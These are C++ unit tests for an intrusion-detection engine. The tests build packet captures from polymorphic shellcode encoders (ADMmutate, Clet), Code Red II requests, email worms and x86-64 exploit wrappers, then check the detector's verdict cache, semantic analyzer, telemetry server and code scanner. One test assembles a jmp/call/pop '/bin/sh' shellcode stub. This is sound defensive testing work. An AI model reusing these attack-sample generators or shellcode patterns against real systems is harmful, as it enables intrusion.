// ------------------------------------------------------------- corpora

pcap::Capture admmutate_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::make_shell_spawn_corpus();
  for (std::size_t i = 0; i < 8; ++i) {
    const auto poly = gen::admmutate_encode(corpus[i % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, poly.bytes);
  }
  return tb.take();
}

pcap::Capture clet_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::make_shell_spawn_corpus();
  for (std::size_t i = 0; i < 8; ++i) {
    const auto poly = gen::clet_encode(corpus[i % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, poly.bytes);
  }
  return tb.take();
}

pcap::Capture codered_corpus(std::uint64_t seed, std::size_t flows = 16) {
  // The replay-heavy workload: Code Red II sends the byte-identical
  // request to every victim, so every flow after the first is a cache
  // hit by construction.
  gen::TraceBuilder tb(seed);
  const util::Bytes request = gen::make_code_red_ii_request();
  for (std::size_t i = 0; i < flows; ++i) {
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, request);
  }
  return tb.take();
}

pcap::Capture mailworm_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const Endpoint mx{Ipv4Addr::from_octets(10, 0, 0, 25), 25};
  for (std::size_t i = 0; i < 4; ++i) {
    const auto worm = gen::make_email_worm(tb.prng());
    tb.add_tcp_flow(attacker(i), mx, worm.smtp_payload);
  }
  return tb.take();
}

pcap::Capture benign_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const Endpoint mx{Ipv4Addr::from_octets(10, 0, 0, 25), 25};
  for (int i = 0; i < 20; ++i) {
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
  }
  for (int i = 0; i < 4; ++i) {
    tb.add_tcp_flow(kClient, mx, gen::make_benign_email(tb.prng()));
  }
  return tb.take();
}

pcap::Capture x64_corpus(std::uint64_t seed, std::size_t repeats = 1) {
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::ExploitBuilder64::corpus();
  for (std::size_t r = 0; r < repeats; ++r) {
    for (std::size_t i = 0; i < corpus.size(); ++i) {
      tb.add_tcp_flow(attacker(r * corpus.size() + i), Endpoint{kServer, 80},
                      gen::ExploitBuilder64::wrap(corpus[i].code, tb.prng()));
    }
  }
  return tb.take();
}

pcap::Capture mixed_corpus(std::uint64_t seed) {
  // Everything at once, interleaved: duplicates (Code Red), polymorphic
  // one-offs (ADMmutate/Clet), attachments, and benign noise.
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::make_shell_spawn_corpus();
  const util::Bytes request = gen::make_code_red_ii_request();
  const Endpoint mx{Ipv4Addr::from_octets(10, 0, 0, 25), 25};
  for (std::size_t i = 0; i < 6; ++i) {
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, request);
    const auto adm = gen::admmutate_encode(corpus[i % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i + 10), Endpoint{kServer, 80}, adm.bytes);
    const auto clet = gen::clet_encode(corpus[(i + 3) % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i + 20), Endpoint{kServer, 80}, clet.bytes);
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
  }
  const auto worm = gen::make_email_worm(tb.prng());
  tb.add_tcp_flow(attacker(30), mx, worm.smtp_payload);
  return tb.take();
}

// -------------------------------------------- cache-on == cache-off

TEST(CacheDifferential, AdmmutateCorpus) { expect_cache_transparent(admmutate_corpus(101)); }

TEST(CacheDifferential, CletCorpus) { expect_cache_transparent(clet_corpus(102)); }

TEST(CacheDifferential, CodeRedCorpus) { expect_cache_transparent(codered_corpus(103)); }

TEST(CacheDifferential, MailwormCorpus) { expect_cache_transparent(mailworm_corpus(104)); }

TEST(CacheDifferential, BenignCorpus) {
  // Empty verdicts are cached too (a negative result is still a result);
  // the benign control proves replaying "no alerts" stays "no alerts".
  const pcap::Capture capture = benign_corpus(105);
  NidsEngine on = make_engine(kCacheBytes);
  const Report report = on.process_capture(capture);
  EXPECT_TRUE(report.alerts.empty());
  expect_cache_transparent(capture);
}

TEST(CacheDifferential, MixedCorpusSerial) { expect_cache_transparent(mixed_corpus(106)); }

TEST(CacheDifferential, X64CorpusTransparentAndReplayable) {
  // The x86-64 attack corpus under the x86_64 engine: cache-on must
  // remain invisible (serial and 4-worker), and a second pass of one
  // engine must replay every 64-bit verdict from the cache identically.
  const pcap::Capture capture = x64_corpus(114);
  expect_cache_transparent(capture, /*threads=*/1, &arch::Arch::x86_64());
  expect_cache_transparent(capture, /*threads=*/4, &arch::Arch::x86_64());

  NidsEngine on = make_engine(kCacheBytes, 1, &arch::Arch::x86_64());
  const Report first = on.process_capture(capture);
  const Report second = on.process_capture(capture);
  expect_alerts_equal(first.alerts, second.alerts);
  EXPECT_FALSE(first.alerts.empty());
  EXPECT_GT(first.stats.cache_misses, 0u);
  EXPECT_EQ(second.stats.cache_misses, 0u);
}

TEST(CacheDifferential, ArchIsPartOfTheCacheKey) {
  // The same bytes mean different instructions per ISA, so a verdict
  // computed under one arch must never replay under another: the config
  // fingerprint (the key prefix) has to differ.
  NidsEngine e32 = make_engine(kCacheBytes, 1, &arch::Arch::x86_32());
  NidsEngine e64 = make_engine(kCacheBytes, 1, &arch::Arch::x86_64());
  NidsEngine edefault = make_engine(kCacheBytes, 1, nullptr);
  EXPECT_NE(e32.config_fingerprint(), e64.config_fingerprint());
  // nullptr normalizes to x86_32: identical fingerprint, shared verdicts.
  EXPECT_EQ(e32.config_fingerprint(), edefault.config_fingerprint());
}

TEST(CacheDifferential, MixedCorpusParallel) {
  // Four workers sharing one cache: the deterministic alert sort plus
  // first-wins insertion must keep the parallel cache-on report equal to
  // the serial cache-off one.
  expect_cache_transparent(mixed_corpus(107), /*threads=*/4);
}

// ------------------------------------------- hit-path replay fidelity

TEST(CacheDifferential, SecondPassServedFromCacheIdentically) {
  // The same capture twice through one engine: pass 2 re-materializes
  // every verdict from the cache and must reproduce pass 1 exactly.
  const pcap::Capture capture = mixed_corpus(108);
  NidsEngine on = make_engine(kCacheBytes);
  const Report first = on.process_capture(capture);
  const Report second = on.process_capture(capture);

  expect_alerts_equal(first.alerts, second.alerts);
  expect_cache_invariant(first.stats);
  expect_cache_invariant(second.stats);
  EXPECT_GT(first.stats.cache_misses, 0u);
  // Pass 2 sees only bytes pass 1 already inserted: zero misses.
  EXPECT_EQ(second.stats.cache_misses, 0u);
  EXPECT_EQ(second.stats.cache_hits,
            second.stats.units_analyzed - second.stats.cache_bypass);
  EXPECT_GT(second.stats.cache_bytes_saved, 0u);
}

TEST(CacheDifferential, RepeatedPayloadHitRateAtLeast90Percent) {
  // The acceptance workload: many flows of one identical payload. Only
  // the first unit misses, so the hit rate is (n-1)/n >= 90% at n >= 10.
  const pcap::Capture capture = codered_corpus(109, /*flows=*/24);
  NidsEngine on = make_engine(kCacheBytes);
  const Report report = on.process_capture(capture);
  expect_cache_invariant(report.stats);
  ASSERT_GT(report.stats.units_analyzed, 0u);
  EXPECT_GE(report.stats.cache_hits * 10, report.stats.units_analyzed * 9)
      << report.stats.cache_hits << " hits / " << report.stats.units_analyzed
      << " units";
  EXPECT_TRUE(report.detected(ThreatClass::kCodeRedII));
}

TEST(CacheDifferential, MixedHitMissRunSortsIdentically) {
  // Regression for the alert-ordering contract: a run where replayed
  // (hit) and freshly analyzed (miss) alerts interleave must sort into
  // exactly the order a cache-off engine produces. A replayed alert that
  // differed in any sort-key field would land elsewhere in the list.
  NidsEngine on = make_engine(kCacheBytes);
  // Warm the cache with the duplicated payloads only.
  const Report warm = on.process_capture(codered_corpus(110, /*flows=*/4));
  EXPECT_GT(warm.stats.cache_misses, 0u);

  // Now a capture interleaving warmed (hit) flows with never-seen (miss)
  // polymorphic flows, sharing timestamps and sources so the sort has to
  // discriminate on the late key fields.
  const pcap::Capture capture = mixed_corpus(110);
  const Report mixed = on.process_capture(capture);
  EXPECT_GT(mixed.stats.cache_hits, 0u);
  EXPECT_GT(mixed.stats.cache_misses, 0u);

  NidsEngine off = make_engine(0);
  const Report fresh = off.process_capture(capture);
  expect_alerts_equal(fresh.alerts, mixed.alerts);
}

// --------------------------------------------------- bypass & bounds

TEST(CacheDifferential, OversizedUnitsBypassTransparently) {
  // cache_max_unit_bytes of 1: every unit bypasses the cache, nothing is
  // inserted, and the report still matches cache-off exactly.
  const pcap::Capture capture = codered_corpus(111, /*flows=*/6);
  NidsOptions options;
  options.classifier.analyze_everything = true;
  options.verdict_cache_bytes = kCacheBytes;
  options.cache_max_unit_bytes = 1;
  NidsEngine on(options);
  const Report r_on = on.process_capture(capture);
  expect_cache_invariant(r_on.stats);
  EXPECT_EQ(r_on.stats.cache_hits, 0u);
  EXPECT_EQ(r_on.stats.cache_misses, 0u);
  EXPECT_EQ(r_on.stats.cache_bypass, r_on.stats.units_analyzed);
  ASSERT_NE(on.verdict_cache(), nullptr);
  EXPECT_EQ(on.verdict_cache()->stats().insertions, 0u);

  NidsEngine off = make_engine(0);
  const Report r_off = off.process_capture(capture);
  expect_alerts_equal(r_off.alerts, r_on.alerts);
}

TEST(CacheDifferential, TinyBudgetThrashesButStaysCorrect) {
  // A cache far too small for the working set evicts constantly; verdict
  // replay must remain exact whenever a hit does land, and the budget
  // must hold.
  const pcap::Capture capture = mixed_corpus(112);
  NidsOptions options;
  options.classifier.analyze_everything = true;
  options.verdict_cache_bytes = 4096;
  NidsEngine on(options);
  const Report r_on = on.process_capture(capture);
  expect_cache_invariant(r_on.stats);
  ASSERT_NE(on.verdict_cache(), nullptr);
  EXPECT_LE(on.verdict_cache()->stats().bytes, on.verdict_cache()->byte_budget());

  NidsEngine off = make_engine(0);
  const Report r_off = off.process_capture(capture);
  expect_alerts_equal(r_off.alerts, r_on.alerts);
}

TEST(CacheDifferential, EngineCacheStatsMatchCacheCounters) {
  // The engine's per-report stats and the cache's own counters are two
  // independent accountings of the same events; they must agree.
  const pcap::Capture capture = codered_corpus(113, /*flows=*/8);
  NidsEngine on = make_engine(kCacheBytes);
  const Report report = on.process_capture(capture);
  ASSERT_NE(on.verdict_cache(), nullptr);
  const auto cs = on.verdict_cache()->stats();
  EXPECT_EQ(cs.hits, report.stats.cache_hits);
  EXPECT_EQ(cs.misses, report.stats.cache_misses);
  EXPECT_EQ(cs.lookups, report.stats.cache_hits + report.stats.cache_misses);
  EXPECT_EQ(cs.insertions - cs.evictions, cs.entries);
}

}  // namespace
}  // namespace senids::core
