#include <gtest/gtest.h>

#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "semantic/analyzer.hpp"
#include "semantic/library.hpp"

namespace senids::semantic {
namespace {

bool detected(const std::vector<Detection>& ds, ThreatClass threat) {
  for (const auto& d : ds) {
    if (d.threat == threat) return true;
  }
  return false;
}

TEST(Analyzer, DetectsEveryShellSpawnVariant) {
  SemanticAnalyzer analyzer(make_standard_library());
  for (const auto& sample : gen::make_shell_spawn_corpus()) {
    auto ds = analyzer.analyze(sample.code);
    EXPECT_TRUE(detected(ds, ThreatClass::kShellSpawn)) << sample.name;
    if (sample.binds_port) {
      EXPECT_TRUE(detected(ds, ThreatClass::kPortBindShell)) << sample.name;
    } else {
      EXPECT_FALSE(detected(ds, ThreatClass::kPortBindShell)) << sample.name;
    }
  }
}

TEST(Analyzer, DetectsIisAspOverflowDecoder) {
  SemanticAnalyzer analyzer(make_standard_library());
  auto ds = analyzer.analyze(gen::make_iis_asp_overflow_payload());
  EXPECT_TRUE(detected(ds, ThreatClass::kDecryptionLoop));
}

TEST(Analyzer, DetectsNetskyLikeSample) {
  util::Prng prng(1234);
  auto sample = gen::make_netsky_like_sample(prng);
  SemanticAnalyzer analyzer(make_standard_library());
  auto ds = analyzer.analyze(sample);
  EXPECT_TRUE(detected(ds, ThreatClass::kDecryptionLoop));
}

TEST(Analyzer, XorOnlyLibraryMissesAltScheme) {
  // The Table 2 mechanism: the xor template alone cannot see the
  // or/and/not decoder.
  util::Prng prng(7);
  gen::PolyOptions opts;
  opts.xor_scheme_prob = 0.0;  // force the alternate scheme
  auto poly = gen::admmutate_encode(util::to_bytes("PAYLOADPAYLOAD"), prng, opts);
  ASSERT_EQ(poly.scheme, gen::DecoderScheme::kAltOrAndNot);

  SemanticAnalyzer xor_only(make_xor_only_library());
  EXPECT_FALSE(detected(xor_only.analyze(poly.bytes), ThreatClass::kDecryptionLoop));

  SemanticAnalyzer full(make_standard_library());
  EXPECT_TRUE(detected(full.analyze(poly.bytes), ThreatClass::kDecryptionLoop));
}

TEST(Analyzer, SweepOverAdmmutateSeeds) {
  // Property sweep: every generated instance, regardless of seed and
  // scheme, is caught by the full library.
  SemanticAnalyzer analyzer(make_decoder_library());
  auto payload = gen::make_shell_spawn_corpus()[1].code;
  for (std::uint64_t seed = 0; seed < 25; ++seed) {
    util::Prng prng(seed);
    auto poly = gen::admmutate_encode(payload, prng);
    EXPECT_TRUE(detected(analyzer.analyze(poly.bytes), ThreatClass::kDecryptionLoop))
        << "seed " << seed << " scheme " << static_cast<int>(poly.scheme);
  }
}

TEST(Analyzer, SweepOverCletSeeds) {
  SemanticAnalyzer analyzer(make_xor_only_library());
  auto payload = gen::make_shell_spawn_corpus()[1].code;
  for (std::uint64_t seed = 100; seed < 120; ++seed) {
    util::Prng prng(seed);
    auto poly = gen::clet_encode(payload, prng);
    EXPECT_TRUE(detected(analyzer.analyze(poly.bytes), ThreatClass::kDecryptionLoop))
        << "seed " << seed;
  }
}

TEST(Analyzer, CleanOnBenignText) {
  SemanticAnalyzer analyzer(make_standard_library());
  std::string html = "<html><body>";
  for (int i = 0; i < 200; ++i) html += "completely ordinary web page text ";
  html += "</body></html>";
  EXPECT_TRUE(analyzer.analyze(util::as_bytes(html)).empty());
}

TEST(Analyzer, CleanOnRandomBytes) {
  SemanticAnalyzer analyzer(make_standard_library());
  util::Prng prng(555);
  for (int trial = 0; trial < 10; ++trial) {
    auto noise = prng.bytes(4096);
    EXPECT_TRUE(analyzer.analyze(noise).empty()) << "trial " << trial;
  }
}

TEST(Analyzer, EmptyFrameYieldsNothing) {
  SemanticAnalyzer analyzer(make_standard_library());
  util::Bytes empty;
  EXPECT_TRUE(analyzer.analyze(empty).empty());
}

TEST(Analyzer, StatsAreAccumulated) {
  SemanticAnalyzer analyzer(make_standard_library());
  AnalyzerStats stats;
  analyzer.analyze(gen::make_iis_asp_overflow_payload(), &stats);
  EXPECT_EQ(stats.frames, 1u);
  EXPECT_GE(stats.candidate_runs, 1u);
  EXPECT_GE(stats.traces, 1u);
  EXPECT_GE(stats.instructions_lifted, 10u);
  EXPECT_GE(stats.template_matches_tried, 1u);
}

TEST(Analyzer, OneDetectionPerTemplatePerFrame) {
  // Two decoders in one frame still produce a single xor-template hit.
  auto one = gen::make_iis_asp_overflow_payload(0x41);
  auto two = gen::make_iis_asp_overflow_payload(0x42);
  util::Bytes both = one;
  both.insert(both.end(), 64, 0x90);
  both.insert(both.end(), two.begin(), two.end());
  SemanticAnalyzer analyzer(make_xor_only_library());
  auto ds = analyzer.analyze(both);
  EXPECT_EQ(ds.size(), 1u);
}

TEST(Analyzer, DetectionCarriesBindings) {
  SemanticAnalyzer analyzer(make_xor_only_library());
  auto ds = analyzer.analyze(gen::make_iis_asp_overflow_payload(0x5d));
  ASSERT_EQ(ds.size(), 1u);
  ASSERT_TRUE(ds[0].bindings.contains("K"));
  std::uint32_t k;
  ASSERT_TRUE(ir::is_const(ds[0].bindings["K"], &k));
  EXPECT_EQ(k, 0x5du);
}

TEST(Analyzer, RespectsMaxEntriesOption) {
  SemanticAnalyzer::Options opts;
  opts.max_entries = 1;
  SemanticAnalyzer analyzer(make_standard_library(), opts);
  // Still functional (the first entry is the interesting one here).
  auto ds = analyzer.analyze(gen::make_iis_asp_overflow_payload());
  EXPECT_FALSE(ds.empty());
}

}  // namespace
}  // namespace senids::semantic

namespace senids::semantic {
namespace {

TEST(Analyzer, FnstenvGetPcInstancesDetected) {
  gen::PolyOptions opts;
  opts.fnstenv_getpc_prob = 1.0;
  SemanticAnalyzer analyzer(make_decoder_library());
  auto payload = gen::make_shell_spawn_corpus()[1].code;
  for (std::uint64_t seed = 400; seed < 412; ++seed) {
    util::Prng prng(seed);
    auto poly = gen::admmutate_encode(payload, prng, opts);
    bool hit = false;
    for (const auto& d : analyzer.analyze(poly.bytes)) {
      if (d.threat == ThreatClass::kDecryptionLoop) hit = true;
    }
    EXPECT_TRUE(hit) << "seed " << seed;
  }
}

}  // namespace
}  // namespace senids::semantic
