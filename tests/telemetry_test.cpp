// Telemetry-plane tests: loopback HTTP scrapes of every endpoint,
// readiness flipping unhealthy under forced queue saturation and
// recovering, /statusz carrying the documented keys, stale-heartbeat
// detection, and the engine-level attribution invariant (per-worker
// busy + idle seconds reconcile with the worker's own run wall).
#include <gtest/gtest.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cmath>
#include <string>

#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"
#include "obs/flight_recorder.hpp"
#include "obs/metrics.hpp"
#include "obs/pipeline.hpp"
#include "obs/server.hpp"
#include "obs/workers.hpp"

namespace senids::obs {
namespace {

struct HttpResponse {
  int status = 0;
  std::string head;
  std::string body;
};

/// Minimal loopback HTTP client: one request, read to EOF (the server
/// always closes), split head/body.
HttpResponse http_raw(std::uint16_t port, const std::string& request) {
  HttpResponse resp;
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return resp;
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  ::inet_pton(AF_INET, "127.0.0.1", &addr.sin_addr);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
    ::close(fd);
    return resp;
  }
  (void)!::send(fd, request.data(), request.size(), 0);
  std::string raw;
  char buf[4096];
  ssize_t n;
  while ((n = ::recv(fd, buf, sizeof buf, 0)) > 0) raw.append(buf, static_cast<std::size_t>(n));
  ::close(fd);
  const std::size_t split = raw.find("\r\n\r\n");
  resp.head = raw.substr(0, split);
  if (split != std::string::npos) resp.body = raw.substr(split + 4);
  if (raw.rfind("HTTP/1.1 ", 0) == 0) resp.status = std::atoi(raw.c_str() + 9);
  return resp;
}

HttpResponse http_get(std::uint16_t port, const std::string& path) {
  return http_raw(port, "GET " + path + " HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n");
}

class TelemetryTest : public ::testing::Test {
 protected:
  void SetUp() override {
    set_metrics_enabled(true);
    (void)pipeline_metrics();  // registration is lazy; scrape needs the families
    TelemetryOptions opt;
    opt.build_info = "fingerprint-test";
    server_ = TelemetryServer::start(std::move(opt));
    ASSERT_NE(server_, nullptr);
    ASSERT_NE(server_->port(), 0);
  }
  void TearDown() override {
    // Return the health-relevant gauges to "not configured" so later
    // tests (and later binaries' assumptions) start from a clean slate.
    PipelineMetrics& pm = pipeline_metrics();
    pm.queue_depth->set(0);
    pm.queue_capacity->set(0);
    pm.flow_table_flows->set(0);
    pm.flow_table_max_flows->set(0);
    shard_queue_capacity_gauge().set(0);
    FlightRecorder::instance().configure({.slots = 0});
  }
  std::unique_ptr<TelemetryServer> server_;
};

TEST_F(TelemetryTest, MetricsEndpointServesPrometheusExposition) {
  const HttpResponse r = http_get(server_->port(), "/metrics");
  EXPECT_EQ(r.status, 200);
  EXPECT_NE(r.head.find("text/plain"), std::string::npos);
  EXPECT_NE(r.body.find("# TYPE senids_packets_total counter"), std::string::npos);
  EXPECT_NE(r.body.find("senids_unit_seconds_bucket{le=\"+Inf\"}"), std::string::npos);
}

TEST_F(TelemetryTest, HealthFlipsUnhealthyUnderQueueSaturationAndRecovers) {
  PipelineMetrics& pm = pipeline_metrics();
  pm.queue_capacity->set(256);
  pm.queue_depth->set(10);
  HttpResponse r = http_get(server_->port(), "/healthz");
  EXPECT_EQ(r.status, 200);
  EXPECT_NE(r.body.find("\"status\": \"healthy\""), std::string::npos);
  EXPECT_NE(r.body.find("\"live\": true"), std::string::npos);

  // Force saturation: depth at 98% of capacity, past the 90% threshold.
  pm.queue_depth->set(250);
  r = http_get(server_->port(), "/healthz");
  EXPECT_EQ(r.status, 503);
  EXPECT_NE(r.body.find("\"status\": \"unhealthy\""), std::string::npos);
  EXPECT_NE(r.body.find("unit_queue"), std::string::npos);
  EXPECT_NE(r.body.find("\"ok\": false"), std::string::npos);

  // Drain the queue: readiness must recover.
  pm.queue_depth->set(0);
  r = http_get(server_->port(), "/healthz");
  EXPECT_EQ(r.status, 200);
  EXPECT_NE(r.body.find("\"status\": \"healthy\""), std::string::npos);
}

TEST_F(TelemetryTest, HealthFlagsFlowTableOccupancy) {
  PipelineMetrics& pm = pipeline_metrics();
  pm.flow_table_max_flows->set(1000);
  pm.flow_table_flows->set(980);  // 98% > the 95% default threshold
  const HealthReport unhealthy = evaluate_health(HealthThresholds{});
  EXPECT_FALSE(unhealthy.healthy);
  EXPECT_NE(unhealthy.json.find("flow_table"), std::string::npos);
  pm.flow_table_flows->set(100);
  EXPECT_TRUE(evaluate_health(HealthThresholds{}).healthy);
  // A 0 cap disables the check entirely, whatever the occupancy gauge says.
  pm.flow_table_max_flows->set(0);
  pm.flow_table_flows->set(999999);
  EXPECT_TRUE(evaluate_health(HealthThresholds{}).healthy);
}

TEST_F(TelemetryTest, HealthFlagsStaleHeartbeatOnActiveSlotsOnly) {
  WorkerSlot& slot = WorkerTable::instance().slot("stall-test", 0);
  slot.begin_run();
  usleep(20000);  // 20 ms without a heartbeat
  HealthThresholds strict;
  strict.heartbeat_stale_seconds = 0.001;
  const HealthReport stalled = evaluate_health(strict);
  EXPECT_FALSE(stalled.healthy);
  EXPECT_NE(stalled.json.find("heartbeat"), std::string::npos);
  EXPECT_NE(stalled.json.find("stall-test"), std::string::npos);
  // A fresh heartbeat clears it; an inactive slot is never checked.
  slot.heartbeat();
  EXPECT_TRUE(evaluate_health(strict).healthy);
  slot.end_run();
  usleep(20000);
  EXPECT_TRUE(evaluate_health(strict).healthy);
}

TEST_F(TelemetryTest, StatuszCarriesDocumentedKeys) {
  const HttpResponse r = http_get(server_->port(), "/statusz");
  EXPECT_EQ(r.status, 200);
  EXPECT_NE(r.head.find("application/json"), std::string::npos);
  for (const char* key :
       {"\"uptime_seconds\"", "\"build_info\": \"fingerprint-test\"", "\"pipeline\"",
        "\"unit_queue\"", "\"depth_peak\"", "\"shards\"", "\"workers\"",
        "\"verdict_cache\"", "\"hit_rate\"", "\"flows\"", "\"unit_latency_seconds\"",
        "\"flight_recorder\""}) {
    EXPECT_NE(r.body.find(key), std::string::npos) << "missing " << key;
  }
}

TEST_F(TelemetryTest, TracezServesFlightRecorderDump) {
  FlightRecorder::instance().configure({.slots = 8});
  UnitRecord rec;
  rec.unit_id = 4242;
  rec.src = 0x0a000001;
  rec.payload_bytes = 77;
  rec.total_us = 5;
  FlightRecorder::instance().record(rec);
  const HttpResponse r = http_get(server_->port(), "/tracez");
  EXPECT_EQ(r.status, 200);
  EXPECT_NE(r.body.find("\"unit_id\": 4242"), std::string::npos);
  EXPECT_NE(r.body.find("\"src\": \"10.0.0.1\""), std::string::npos);
}

TEST_F(TelemetryTest, RoutingAndErrorResponses) {
  EXPECT_EQ(http_get(server_->port(), "/").status, 200);
  EXPECT_EQ(http_get(server_->port(), "/metrics?foo=bar").status, 200);  // query stripped
  EXPECT_EQ(http_get(server_->port(), "/no-such-endpoint").status, 404);
  EXPECT_EQ(http_raw(server_->port(),
                     "POST /metrics HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n")
                .status,
            405);
  EXPECT_EQ(http_raw(server_->port(), "garbage\r\n\r\n").status, 400);
  const std::uint64_t served = server_->requests_served();
  EXPECT_GE(served, 5u);
  http_get(server_->port(), "/healthz");
  EXPECT_EQ(server_->requests_served(), served + 1);
}

TEST_F(TelemetryTest, StopIsIdempotentAndRefusesFurtherConnections) {
  const std::uint16_t port = server_->port();
  server_->stop();
  server_->stop();
  EXPECT_EQ(http_get(port, "/metrics").status, 0);  // connection refused
}

TEST_F(TelemetryTest, ConcurrentStopsJoinExactlyOnce) {
  // Regression for a thread-safety-audit finding: two threads calling
  // stop() concurrently used to race on the accept thread's handle —
  // joinable() could pass in both before either join() ran, and joining
  // the same std::thread twice is undefined behavior. The lifecycle
  // mutex serializes them; the TSan variant of this binary would flag
  // the old race.
  std::thread other([this] { server_->stop(); });
  server_->stop();
  other.join();
  EXPECT_EQ(http_get(server_->port(), "/metrics").status, 0);
}

// ------------------------------------------------- engine-level attribution

core::NidsOptions threaded_options() {
  core::NidsOptions o;
  o.classifier.analyze_everything = true;  // every payload becomes a unit
  o.threads = 2;
  o.verdict_cache_bytes = 0;
  return o;
}

pcap::Capture small_corpus() {
  gen::TraceBuilder tb(99);
  const net::Endpoint client{net::Ipv4Addr::from_octets(192, 0, 2, 7), 40000};
  const net::Ipv4Addr server = net::Ipv4Addr::from_octets(10, 0, 0, 9);
  for (int i = 0; i < 24; ++i) {
    tb.add_benign(client, server, gen::make_benign_payload(tb.prng()));
    tb.tick();
  }
  return tb.take();
}

TEST_F(TelemetryTest, WorkerBusyIdleSumsReconcileWithRunWall) {
  WorkerTable::instance().reset();
  core::NidsEngine engine(threaded_options());
  (void)engine.process_capture(small_corpus());

  bool saw_worker = false;
  for (const WorkerSlot::Snapshot& w : WorkerTable::instance().snapshot()) {
    if (w.kind != "worker") continue;
    saw_worker = true;
    EXPECT_FALSE(w.active) << "workers joined before process_capture returned";
    EXPECT_GT(w.run_seconds, 0.0);
    const double attributed = w.busy_seconds + w.idle_seconds;
    // Acceptance bound: attributed within 5% of the worker's own run
    // wall (plus a small absolute floor — these runs are only a few ms).
    EXPECT_NEAR(attributed, w.run_seconds,
                std::max(0.05 * w.run_seconds, 2e-3))
        << w.kind << " " << w.index;
  }
  EXPECT_TRUE(saw_worker);

  // The engine published the capacity gauges the readiness checks use.
  EXPECT_EQ(pipeline_metrics().queue_capacity->value(), 256);
}

}  // namespace
}  // namespace senids::obs
