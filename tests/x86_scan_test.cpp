#include <gtest/gtest.h>

#include "gen/emitter.hpp"
#include "gen/poly.hpp"
#include "util/prng.hpp"
#include "arch/scan.hpp"

namespace senids::arch {
namespace {

using gen::Asm;
using gen::R32;
using gen::R8;
using util::Bytes;

// ----------------------------------------------------------- code runs

TEST(FindCodeRuns, EmptyBuffer) {
  Bytes empty;
  EXPECT_TRUE(find_code_runs(empty).empty());
}

TEST(FindCodeRuns, AllNops) {
  Bytes code(64, 0x90);
  auto runs = find_code_runs(code, 6);
  ASSERT_EQ(runs.size(), 1u);
  EXPECT_EQ(runs[0].start, 0u);
  EXPECT_EQ(runs[0].insn_count, 64u);
  EXPECT_EQ(runs[0].byte_len, 64u);
}

TEST(FindCodeRuns, SuppressesTailRuns) {
  // A run starting at offset 1 inside the offset-0 run must not be
  // reported separately.
  Bytes code(32, 0x40);  // inc eax * 32
  auto runs = find_code_runs(code, 4);
  ASSERT_EQ(runs.size(), 1u);
  EXPECT_EQ(runs[0].start, 0u);
}

TEST(FindCodeRuns, FindsRunAfterInvalidBytes) {
  Bytes code;
  code.insert(code.end(), 8, 0xD8);  // x87 escapes: invalid
  code.insert(code.end(), 16, 0x90);
  auto runs = find_code_runs(code, 6);
  ASSERT_GE(runs.size(), 1u);
  bool found = false;
  for (const auto& r : runs) {
    if (r.start == 8 && r.insn_count == 16) found = true;
  }
  EXPECT_TRUE(found);
}

TEST(FindCodeRuns, MinInsnsFiltersShortRuns) {
  Bytes code;
  code.insert(code.end(), 4, 0x90);
  code.push_back(0xD8);  // invalid separator
  code.push_back(0xC0);
  auto runs = find_code_runs(code, 6);
  EXPECT_TRUE(runs.empty());
}

TEST(FindCodeRuns, ShellcodeYieldsLongRun) {
  util::Prng prng(3);
  gen::PolyResult poly = gen::admmutate_encode(util::to_bytes("payloadpayload"), prng);
  auto runs = find_code_runs(poly.bytes, 6);
  ASSERT_FALSE(runs.empty());
  // The run starting at (or before) the sled should cover the decoder.
  EXPECT_LE(runs[0].start, poly.sled_len);
  EXPECT_GE(runs[0].insn_count, 10u);
}

// ----------------------------------------------------- execution traces

TEST(ExecutionTrace, FollowsUnconditionalJmp) {
  // jmp +2; (skipped bytes); inc eax; ret
  Asm a;
  auto l = a.new_label();
  a.jmp_short(l);
  a.raw8(0xD8);  // junk that must NOT appear in the trace
  a.raw8(0xD8);
  a.bind(l);
  a.inc_r32(R32::eax);
  a.ret();
  Bytes code = a.finish();

  auto trace = execution_trace(code, 0);
  ASSERT_EQ(trace.size(), 3u);
  EXPECT_EQ(trace[0].mnemonic, Mnemonic::kJmp);
  EXPECT_EQ(trace[1].mnemonic, Mnemonic::kInc);
  EXPECT_EQ(trace[2].mnemonic, Mnemonic::kRet);
}

TEST(ExecutionTrace, FollowsCallTarget) {
  // jmp get; main: pop ebx; ret; get: call main; <data>
  Asm a;
  auto lmain = a.new_label();
  auto lget = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::ebx);
  a.ret();
  a.bind(lget);
  a.call(lmain);
  a.raw(util::to_bytes("/bin/sh"));
  Bytes code = a.finish();

  auto trace = execution_trace(code, 0);
  ASSERT_EQ(trace.size(), 4u);
  EXPECT_EQ(trace[0].mnemonic, Mnemonic::kJmp);
  EXPECT_EQ(trace[1].mnemonic, Mnemonic::kCall);
  EXPECT_EQ(trace[2].mnemonic, Mnemonic::kPop);
  EXPECT_EQ(trace[3].mnemonic, Mnemonic::kRet);
}

TEST(ExecutionTrace, StopsAtLoopClosure) {
